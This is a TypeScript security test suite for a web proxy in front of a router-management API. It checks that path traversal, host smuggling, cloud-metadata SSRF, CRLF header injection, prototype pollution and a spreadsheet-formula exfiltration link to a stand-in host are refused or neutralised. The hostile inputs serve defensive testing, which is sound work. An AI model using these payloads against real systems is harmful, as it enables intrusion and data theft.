/**
 * Attack catalogue, part 2: what crosses between the browser, the BFF and NCM. One test per attack,
 * named by what it checks, through the real route handlers and NCM client against a loopback NCM that
 * records every call and a canary that must never be called. (Part 1: catalogue-access.test.ts; the
 * scripted hostile NCM: hostile-upstream.test.ts; browser-level cases: e2e/security.spec.ts.)
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { resetSharedReads } from '@/lib/reads';
import { refuseMalformedRequest } from '@/lib/api/request-sanity';
import { authConfig } from '@/lib/auth/auth.config';
import { csvTextCell } from '@/lib/fleet/csv';
import { NcmError } from '@/lib/ncm/errors';
import { ncmRequest } from '@/lib/ncm/http';
import { listAllRouters } from '@/lib/ncm/routers';
import { buildNcmUrl } from '@/lib/ncm/request-url';
import { setupMockNcm } from '@/lib/ncm/test-support/harness';
import { listBody, TEST_KEYS, wireRouter } from '@/lib/ncm/test-support/mock-ncm';
import config from '@/next.config';
import { contentSecurityPolicy } from './content-security-policy';
import { callRoute, claimsFor, SAME_ORIGIN_JSON, writeUsersFile } from './test-support/bff';

const session = vi.hoisted(() => ({ user: null as null | Record<string, unknown> }));
vi.hoisted(() => {
  process.env.STORE_PATH = `${require('node:os').tmpdir()}/fleet-catalogue-upstream-${process.pid}.db`;
});
vi.mock('@/lib/auth/index', () => ({
  auth: vi.fn(async () => (session.user ? { user: session.user, expires: '' } : null)),
}));

const h = setupMockNcm();
const root = join(__dirname, '..', '..');
const KEY_VALUES = Object.values(TEST_KEYS);
/** Headers Node's HTTP client adds by itself; the rest must be exactly what the NCM client chose. */
const TRANSPORT_HEADERS = new Set([
  'host',
  'connection',
  'accept-encoding',
  'accept-language',
  'sec-fetch-mode',
  'content-length',
  'keep-alive',
]);

let logged: string[];

beforeEach(() => {
  // Each case asks NCM afresh: shared reads must not carry an answer over from the case before.
  resetSharedReads();
  process.env.USERS_FILE = writeUsersFile([
    { username: 'admin', role: 'Administrator' },
    { username: 'diag', role: 'Diagnostic' },
  ]);
  session.user = claimsFor('admin', 'Administrator');
  h.mock.setHandler((req) =>
    req.url.startsWith('/api/v2/routers/') ? { body: listBody([wireRouter('1')]) } : { body: listBody([]) },
  );
  logged = [];
  const capture = (...args: unknown[]) => {
    logged.push(
      args
        .map((a) => (a instanceof Error ? `${a.message} ${a.stack}` : typeof a === 'string' ? a : JSON.stringify(a)))
        .join(' '),
    );
  };
  vi.spyOn(console, 'error').mockImplementation(capture);
  vi.spyOn(console, 'warn').mockImplementation(capture);
  vi.spyOn(console, 'log').mockImplementation(capture);
});

const getRouter = (id: string) =>
  callRoute('/api/routers/[id]', 'GET', `/api/routers/${encodeURIComponent(id)}`, { params: { id } });
const patchRouter = (id: string, body: string, headers: Record<string, string> = SAME_ORIGIN_JSON) =>
  callRoute('/api/routers/[id]', 'PATCH', `/api/routers/${encodeURIComponent(id)}`, { params: { id }, headers, body });
const getRouters = (query = '', headers: Record<string, string> = {}) =>
  callRoute('/api/routers', 'GET', `/api/routers${query}`, { headers });

function expectOnlyRoutersResource(): void {
  for (const request of h.mock.requests)
    expect(new URL(request.url, h.mock.origin).pathname).toMatch(
      /^\/api\/v2\/(routers|groups|accounts|products|firmwares|net_devices)\/(\d+\/)?$/,
    );
}

describe('attack catalogue: the BFF as a proxy (SSRF, allowlists, header hygiene)', () => {
  it('path traversal in a router id, in any encoding, never leaves the routers resource', async () => {
    for (const id of [
      '../../x',
      '..%2F..%2Fx',
      '%2e%2e%2f%2e%2e%2fx',
      '%252e%252e%252f',
      '..;',
      '..\\..\\x',
      '%2E%2E',
    ]) {
      const status = (await getRouter(id)).status;
      expect([400, 404], id).toContain(status);
      expect((await patchRouter(id, '{"name":"x"}')).status, id).toBe(404);
    }
    expectOnlyRoutersResource();
    expect(
      refuseMalformedRequest(new Request('http://x/api/routers/%c0%ae%c0%ae%2fx'), '/api/routers/%c0%ae%c0%ae%2fx')
        ?.status,
    ).toBe(400);
  });

  it('a host smuggled into a router id never becomes the host NCM calls go to', async () => {
    const canaryHost = new URL(h.canary.origin).host;
    for (const id of [
      `https:%2F%2F${canaryHost}`,
      `//${canaryHost}`,
      `\\\\${canaryHost}`,
      `/\\${canaryHost}`,
      'http://169.254.169.254/latest/meta-data/',
    ]) {
      expect([400, 404], id).toContain((await getRouter(id)).status);
    }
    expect(h.canary.requests).toHaveLength(0);
    expect(h.fetched.every((url) => url.origin === h.mock.origin)).toBe(true);
  });

  it('only allowlisted NCM resources can be called, and unsupported methods get 405 with Allow', () => {
    for (const resource of ['api_keys', 'users', '../routers', 'routers/../users']) {
      expect(() => buildNcmUrl(h.base, [resource as 'routers'])).toThrow(NcmError);
    }
    for (const [method, path] of [
      ['DELETE', '/api/routers/1'],
      ['PUT', '/api/routers/1'],
      ['POST', '/api/groups'],
    ]) {
      const refusal = refuseMalformedRequest(new Request(`http://x${path}`, { method }), path);
      expect(refusal?.status, `${method} ${path}`).toBe(405);
      expect(refusal?.headers.get('allow')).toBeTruthy();
    }
  });

  // The Location the browser finally gets (a path: Next relativises a same-host redirect) is checked in e2e/security.spec.ts.
  it('a forged Host or X-Forwarded-Host cannot steer the login redirect to another site', () => {
    const forged = new URL('http://canary.example/routers');
    const answer = authConfig.callbacks.authorized({
      request: { nextUrl: forged },
      auth: null,
    } as unknown as Parameters<typeof authConfig.callbacks.authorized>[0]) as Response;
    const location = new URL(answer.headers.get('location') ?? '');
    // Same host as the request (so Next makes it a bare path), and the return path is a path.
    expect(location.host).toBe(forged.host);
    expect(location.searchParams.get('callbackUrl')).toBe('/routers');
    expect(authConfig.callbacks.redirect({ url: 'http://canary.example/x', baseUrl: 'http://127.0.0.1:3210' })).toBe(
      'http://127.0.0.1:3210',
    );
  });

  it('links and redirects supplied by NCM never take the keys to another host', async () => {
    h.mock.setSequence([
      { body: listBody([wireRouter('1')], { next: `${h.canary.origin}/api/v2/routers/?offset=20` }) },
    ]);
    expect(await listAllRouters().catch((e: unknown) => (e as NcmError).kind)).toBe('next_refused');
    h.mock.setSequence([{ status: 302, headers: { location: `${h.canary.origin}/steal` } }]);
    expect((await getRouters()).status).toBe(502);
    expect(h.canary.requests).toHaveLength(0);
  });

  it('query parameters are validated, single-valued and bounded before NCM sees them', async () => {
    for (const query of [
      '?limit=100000',
      '?limit=-1',
      '?limit=abc',
      '?limit=25&limit=200',
      '?offset=1e9',
      '?state=deleted',
    ]) {
      expect((await getRouters(query)).status, query).toBe(400);
    }
    // (The shared reference data may refresh in the background meanwhile; the routers list must not be asked.)
    expect(h.mock.requests.filter((r) => r.url.startsWith('/api/v2/routers/'))).toHaveLength(0);
    expect((await getRouters('?limit=200&__proto__[x]=1&expand=account')).status).toBe(200);
    const sent = h.mock.requests
      .map((r) => new URL(r.url, h.mock.origin))
      .filter((u) => u.pathname === '/api/v2/routers/');
    expect(sent.length).toBeGreaterThan(0);
    for (const url of sent) {
      expect(Number(url.searchParams.get('limit'))).toBeLessThanOrEqual(500);
      expect(url.searchParams.has('__proto__[x]')).toBe(false);
      expect(url.searchParams.has('expand')).toBe(false);
    }
  });

  it("the browser's cookies, authorization and key headers never reach NCM, and ours cannot be overridden", async () => {
    const hostile = {
      cookie: 'authjs.session-token=abc',
      authorization: 'Bearer stolen',
      'x-cp-api-id': 'attacker',
      'x-ecm-api-key': 'attacker',
      'x-forwarded-for': '1.2.3.4',
      'x-forwarded-host': 'canary.example',
    };
    expect((await getRouters('', hostile)).status).toBe(200);
    expect(h.mock.requests.length).toBeGreaterThan(0);
    for (const request of h.mock.requests) {
      const names = Object.keys(request.headers)
        .filter((name) => !TRANSPORT_HEADERS.has(name))
        .sort();
      expect(names).toEqual(['accept', 'user-agent', 'x-cp-api-id', 'x-cp-api-key', 'x-ecm-api-id', 'x-ecm-api-key']);
      expect(request.headers['x-cp-api-id']).toBe(TEST_KEYS.NCM_CP_API_ID);
      expect(request.headers['x-ecm-api-key']).toBe(TEST_KEYS.NCM_ECM_API_KEY);
    }
    await expect(ncmRequest({ path: ['routers'], query: { name: 'a\r\nX-Injected: 1' } })).rejects.toBeInstanceOf(
      NcmError,
    );
  });

  it("NCM's response headers and error bodies never reach the browser, not even echoed keys", async () => {
    h.mock.setHandler(() => ({
      status: 500,
      headers: {
        'set-cookie': 'planted=1',
        server: 'ncm',
        'x-powered-by': 'x',
        'access-control-allow-origin': '*',
        'x-echo': TEST_KEYS.NCM_CP_API_KEY,
      },
      body: { exception: 'Traceback (most recent call last): shard-router-3', keys: KEY_VALUES },
    }));
    const response = await getRouters();
    const text = await response.text();
    expect(response.status).toBe(502);
    expect([...response.headers.keys()].sort()).toEqual(['cache-control', 'content-type']);
    expect(text).not.toMatch(/Traceback|shard-router/);
    for (const key of KEY_VALUES) expect(text).not.toContain(key);
    expect(JSON.parse(text).error.ref).toMatch(/^[0-9a-f]{8}$/);
  });

  it('NCM keys never appear in the server log, even when NCM echoes them back', async () => {
    h.mock.setHandler(() => ({
      status: 401,
      body: { message: `bad key ${TEST_KEYS.NCM_ECM_API_KEY}`, keys: KEY_VALUES },
    }));
    await getRouters();
    h.mock.setHandler(() => ({ status: 200, body: `<html>${TEST_KEYS.NCM_CP_API_ID}</html>` }));
    await getRouters();
    expect(logged.length).toBeGreaterThan(0);
    for (const line of logged) for (const key of KEY_VALUES) expect(line).not.toContain(key);
  });

  it('no browser-visible variable names a secret, and every NCM module is server-only', () => {
    const sources = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        if (name === 'node_modules' || name.startsWith('.')) return [];
        return statSync(path).isDirectory() ? sources(path) : /\.(tsx?|js|cjs|mjs)$/.test(name) ? [path] : [];
      });
    const files = ['app', 'components', 'lib']
      .flatMap((dir) => sources(join(root, dir)))
      .concat(join(root, 'next.config.js'));
    const exposed = files.flatMap((file) =>
      [...readFileSync(file, 'utf8').matchAll(/NEXT_PUBLIC_[A-Z0-9_]*(KEY|SECRET|TOKEN|PASSWORD|NCM)[A-Z0-9_]*/g)].map(
        (m) => `${relative(root, file)}: ${m[0]}`,
      ),
    );
    expect(exposed).toEqual([]);
    // Every module that can reach the keys or the network (directly or through the client) is server-only.
    const ncmModules = readdirSync(join(root, 'lib', 'ncm'))
      .filter((name) => name.endsWith('.ts') && !name.endsWith('.test.ts'))
      .map((name) => [name, readFileSync(join(root, 'lib', 'ncm', name), 'utf8')] as const)
      .filter(
        ([name, text]) => name === 'config.ts' || name === 'index.ts' || /from '\.\/(http|config|paginate)'/.test(text),
      );
    expect(ncmModules.map(([name]) => name)).toEqual(
      expect.arrayContaining(['config.ts', 'http.ts', 'index.ts', 'routers.ts']),
    );
    for (const [name, text] of ncmModules) expect(text, name).toMatch(/^import 'server-only';/);
  });
});

describe('attack catalogue: caching, validation, output encoding', () => {
  it('every API answer, success or error, is private and never stored', async () => {
    expect((await getRouters()).headers.get('cache-control')).toBe('private, no-store');
    expect((await getRouters('?limit=3')).headers.get('cache-control')).toBe('private, no-store');
    session.user = null;
    expect((await getRouters()).headers.get('cache-control')).toBe('private, no-store');
  });

  it('shared caches hold raw data and every read authorizes first: a warm cache serves no one unauthorized', async () => {
    expect((await getRouters()).status).toBe(200);
    const callsWhenWarm = h.mock.requests.length;
    session.user = null;
    const anonymous = await getRouters();
    expect(anonymous.status).toBe(401);
    expect(await anonymous.text()).not.toContain('router-1');
    expect(h.mock.requests).toHaveLength(callsWhenWarm);
  });

  it('a router change may carry only name, description and group; anything else is refused before NCM', async () => {
    const bodies = [
      { name: 'x', id: 1 },
      { name: 'x', account: 'https://www.cradlepointecm.com/api/v2/accounts/1/' },
      { config_status: 'x' },
      JSON.parse('{"name":"x","__proto__":{"isAdmin":true}}'),
      { groupId: `${h.canary.origin}/api/v2/groups/1/` },
    ];
    for (const body of bodies)
      expect((await patchRouter('1', JSON.stringify(body))).status, JSON.stringify(body)).toBe(400);
    expect(h.mock.requests.filter((r) => r.method !== 'GET')).toHaveLength(0);
    expect(h.canary.requests).toHaveLength(0);
  });

  it('oversized, mistyped and poisoned bodies get 413, 415 or 400, never a 500', async () => {
    const cases: Array<[string, Record<string, string>, number]> = [
      [JSON.stringify({ name: 'x'.repeat(1_000_000) }), SAME_ORIGIN_JSON, 413],
      ['{"name":"x"}', { ...SAME_ORIGIN_JSON, 'content-type': 'text/plain' }, 415],
      ['{not json', SAME_ORIGIN_JSON, 400],
      [JSON.stringify({ name: 'x'.repeat(10_000) }), SAME_ORIGIN_JSON, 400],
      [JSON.stringify({ name: 'a\u0000b' }), SAME_ORIGIN_JSON, 400],
      [JSON.stringify({ name: 'invoice\u202Efdp.exe' }), SAME_ORIGIN_JSON, 400],
      [JSON.stringify({ name: '' }), SAME_ORIGIN_JSON, 400],
    ];
    for (const [body, headers, status] of cases)
      expect((await patchRouter('1', body, headers)).status, body.slice(0, 40)).toBe(status);
    expect(h.mock.requests.filter((r) => r.method !== 'GET')).toHaveLength(0);
  });

  it('spreadsheet formulas in NCM strings are neutralised in CSV exports', () => {
    for (const value of ['=HYPERLINK("http://canary/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1']) {
      expect(csvTextCell(value).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvTextCell('a,"b"\nc')).toBe('"a,""b""\nc"');
  });

  it('pages get a policy that blocks plugins, base-tag hijacks, framing and foreign connections, plus the static headers', async () => {
    const policy = contentSecurityPolicy({ nonce: 'n', development: false, https: true, env: {} });
    for (const directive of [
      "object-src 'none'",
      "base-uri 'none'",
      "frame-ancestors 'none'",
      "connect-src 'self'",
      'upgrade-insecure-requests',
    ]) {
      expect(policy).toContain(directive);
    }
    const nextConfig = config('phase-production-build');
    const headers = Object.fromEntries((await nextConfig.headers!())[0]!.headers.map(({ key, value }) => [key, value]));
    expect(headers).toMatchObject({
      'X-Content-Type-Options': 'nosniff',
      'Referrer-Policy': 'strict-origin-when-cross-origin',
      'X-Frame-Options': 'DENY',
    });
  });
});

describe('attack catalogue: a failing or hostile NCM', () => {
  it('a slow or hung NCM is a 504 within the timeout, tried once; a reset is a 502', async () => {
    h.env({ NCM_TIMEOUT_MS: '200' });
    h.mock.setHandler(() => ({ delayMs: 2_000, body: listBody([]) }));
    const started = performance.now();
    expect((await getRouters()).status).toBe(504);
    expect(performance.now() - started).toBeLessThan(1_500);
    h.env({ NCM_TIMEOUT_MS: '5000' });
    h.mock.setHandler(() => ({ body: listBody([wireRouter('1')]), truncateAfterBytes: 20 }));
    expect((await getRouters()).status).toBe(502);
  });

  it('a change is sent once, never retried, and an unknown outcome says so', async () => {
    h.mock.setHandler((req) => (req.method === 'GET' ? { body: wireRouter('1') } : { status: 503, body: {} }));
    const response = await patchRouter('1', '{"name":"renamed"}');
    expect(response.status).toBe(503);
    expect(h.mock.requests.filter((r) => r.method !== 'GET')).toHaveLength(1);
    expect((await response.json()).error.message).toMatch(/refresh/i);
  });

  it('an NCM 200 that is HTML, lacks data/meta, or has wrong types is a clean 502', async () => {
    for (const body of ['<html>maintenance</html>', { results: [] }, { data: 'x', meta: {} }]) {
      h.mock.setHandler(() => ({ body }));
      expect((await getRouters()).status, JSON.stringify(body)).toBe(502);
    }
  });

  it('revoked NCM keys (401/403) are a 502 for the browser, never a 401 that would sign the user out', async () => {
    for (const status of [401, 403]) {
      h.mock.setHandler(() => ({ status, body: {} }));
      const response = await getRouters();
      expect(response.status, String(status)).toBe(502);
    }
  });
});
